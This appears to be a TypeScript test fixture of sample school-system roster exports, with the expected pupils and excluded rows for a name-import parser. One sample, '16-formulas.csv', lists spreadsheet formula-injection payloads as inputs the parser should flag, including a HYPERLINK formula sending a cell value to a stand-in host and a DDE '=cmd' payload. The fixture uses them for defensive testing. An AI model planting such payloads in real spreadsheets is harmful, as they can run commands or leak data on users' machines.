/** An export of a school system with the expected result; files are in `muestras/`, in their original encoding. */
export interface Muestra {
  archivos: readonly string[];
  sinTocar?: true;
  noEsListado?: true;
  avisos?: readonly string[];
  /** Kinds of questions to answer before anybody is included. */
  preguntas?: readonly string[];
  /** The pupils, «apellidos, nombre»; or how many. */
  entran?: readonly string[] | number;
  /** Excluded rows: row, reason, and the word that says so; or how many. */
  fuera?: readonly string[] | number;
  /** Names marked by the rule on names, to be corrected or excluded by hand. */
  marcadas?: readonly string[];
}

export const MUESTRAS: readonly Muestra[] = [
  {
    archivos: ['01-seneca-RegAlum.txt'],
    preguntas: ['Grupo'],
    entran: [
      'Aguilar Ponce, Marina',
      'De la Rosa Muñoz, María del Carmen',
      'El Amrani, Yassin',
      'Ferrer Núñez, José Ángel',
      'Sin Unidad, Berta',
      'Ñíguez Ortiz, Mª Ángeles',
    ],
    fuera: [
      '1 Titulo',
      '2 Titulo',
      '3 Titulo',
      '4 Titulo',
      '5 Titulo',
      '7 Cabecera',
      '10 Estado Anulada',
      '12 Estado Trasladada',
      '15 Repetida',
    ],
  },
  {
    archivos: ['04-itaca-alumnat.xlsx'],
    sinTocar: true,
    entran: ['Ferrandis Soler, Vicent', 'Gal·la Peiró, Núria', "d'Ors Llorens, Mª Empar"],
    fuera: ['1 Cabecera', '4 Estado Baixa'],
  },
  {
    archivos: ['05-saga-resultatsconsulta.csv'],
    sinTocar: true,
    entran: ['Torrent Ortiz, Marta', 'Puig i Soler, Arnau', 'Abdul-lah, Fàtima'],
    fuera: ['1 Cabecera', '4 Repetida'],
  },
  {
    archivos: ['06-esfera-filtrada-filas-ocultas.xlsx'],
    sinTocar: true,
    entran: ['Puig i Soler, Arnau', 'Abdul-lah, Fàtima'],
    fuera: ['1 Cabecera', '2 Oculta', '5 Oculta'],
  },
  {
    archivos: ['07-rayuela-Alumnos.xml'],
    sinTocar: true,
    entran: ['Corrales Peña, Begoña', 'Gata, José Mª'],
    fuera: ['1 Cabecera'],
  },
  {
    archivos: ['09-raices-impreso-celdas-combinadas.xlsx'],
    sinTocar: true,
    entran: ['Núñez Sanz, Álvaro', 'De la Fuente y Ruiz-Zorrilla, Mª del Rosario', 'Ortega, Bruno'],
    fuera: ['1 Titulo', '2 Titulo', '4 Cabecera', '7 Cabecera', '10 Total', '11 Titulo'],
  },
  {
    archivos: ['10-moodle-calificaciones.csv'],
    sinTocar: true,
    entran: ['Gómez Ruiz, Lucía', 'Etxeberria, Iker', 'Pérez Gil, Aroa'],
    fuera: ['1 Cabecera'],
  },
  {
    archivos: ['11-google-classroom-notas.csv'],
    sinTocar: true,
    entran: ['Gómez Ruiz, Lucía', 'Etxeberria, Iker'],
    fuera: ['1 Cabecera', '2 Total', '3 Total', '4 Total'],
  },
  {
    archivos: ['12-sds-v21-users.csv'],
    preguntas: ['Roles'],
    entran: ['Gómez Ruiz, Lucía', 'Echevarría, Iker', 'Profesora Sanz, Marta'],
    fuera: ['1 Cabecera'],
  },
  {
    archivos: ['12-sds-v21-users.csv', '12-sds-v21-roles.csv'],
    entran: ['Gómez Ruiz, Lucía', 'Echevarría, Iker'],
    fuera: ['1 Cabecera', '4 Rol teacher'],
  },
  { archivos: ['13-kahoot-informe.xlsx'], noEsListado: true },
  {
    archivos: ['14-excel-texto-unicode-utf16.txt'],
    sinTocar: true,
    entran: ['Núñez Gil, Álvaro', 'García López, Ana', 'Peña Ruiz, Íñigo'],
    fuera: ['1 Cabecera'],
  },
  {
    archivos: ['15-nombres-dificiles.csv'],
    marcadas: [
      'Suresh, ',
      'Ruiz, Ana 🌸',
      'Ruiz, Ana (la nueva)',
      'Pérez/Gómez, Iria',
      'Sánchez, María "Mery"',
      'Sanz, María "Mery"',
      'López, 1º Ana',
      'López, Ana 2',
    ],
    entran: [
      'García, José',
      'O’Neill, Liam',
      "D'Ors, Pau",
      'García-Luengo, Noa',
      'Gal·la, Núria',
      'Núñez de Balboa y de la Cueva, María de las Mercedes',
      'Null, Nil',
      'Suresh, ',
      'Nombre, Ana',
      '王, 伟',
      'بن علي, يوسف',
      'Ruiz, Ana 🌸',
      'Ruiz, Ana (la nueva)',
      'Pérez/Gómez, Iria',
      'Ruiz, Ana',
      'Sánchez, María "Mery"',
      'Sanz, María "Mery"',
      'Vidal, Ça',
      'X, Æ',
      'Jiménez, Mª',
      'López, 1º Ana',
      'López, Ana 2',
      'Bin, Nuñéź',
    ],
    fuera: ['1 Cabecera', '3 Repetida', '4 Repetida', '12 Repetida'],
  },
  {
    archivos: ['16-formulas.csv'],
    marcadas: [
      '=HYPERLINK("http://x.invalid/"&A1), Ana',
      '+34600000000, Luis',
      '-Gil, Eva',
      '@SUM(1+1), Teo',
      '＝1+1, Noa',
      'Gil, =1+1',
      '-, -',
      "Gil, =cmd|' /C calc'!A0",
    ],
    entran: [
      '=HYPERLINK("http://x.invalid/"&A1), Ana',
      '+34600000000, Luis',
      '-Gil, Eva',
      '@SUM(1+1), Teo',
      'Ruiz, Íñigo',
      '＝1+1, Noa',
      'Gil, =1+1',
      '-, -',
      "Gil, =cmd|' /C calc'!A0",
    ],
    fuera: ['1 Cabecera'],
  },
  {
    archivos: ['18-excel-mac-macroman.csv'],
    sinTocar: true,
    avisos: ['ACENTOS'],
    entran: ['Núñez Sanz, Álvaro', 'Pérez Gil, Raúl', 'Peña, Begoña', 'Ruiz, Lucía'],
    fuera: ['1 Cabecera'],
  },
  {
    archivos: ['19-utf8-leido-como-1252.csv'],
    sinTocar: true,
    avisos: ['ACENTOS'],
    entran: ['Núñez Sanz, Álvaro', 'García, Lucía', 'Peña, Begoña', 'Pérez, Raúl'],
    fuera: ['1 Cabecera'],
  },
  { archivos: ['20-centro-entero-213.csv'], preguntas: ['Grupo'], entran: 60, fuera: 154 },
  {
    archivos: ['21-pegado-numerado.txt'],
    sinTocar: true,
    entran: ['Gómez Ruiz, Lucía', 'Etxeberria, Iker', 'Pérez Gil, Aroa', 'De la Rosa Muñoz, Mª José', 'Ortega, Bruno'],
    fuera: ['7 Total'],
  },
  {
    archivos: ['24-portal-html-en-xls.xls'],
    sinTocar: true,
    entran: ['Núñez Sanz, Álvaro', 'Ortega, Bruno'],
    fuera: ['1 Cabecera'],
  },
  { archivos: ['25-copiado-de-pdf.txt'], sinTocar: true, entran: ['Gómez Ruiz, Lucía', 'Etxeberria, Iker'], fuera: [] },
  {
    archivos: ['27-moodle-participantes.csv'],
    sinTocar: true,
    entran: ['Gómez Ruiz, Lucía'],
    fuera: ['1 Cabecera', '3 Rol Profesor'],
  },
];
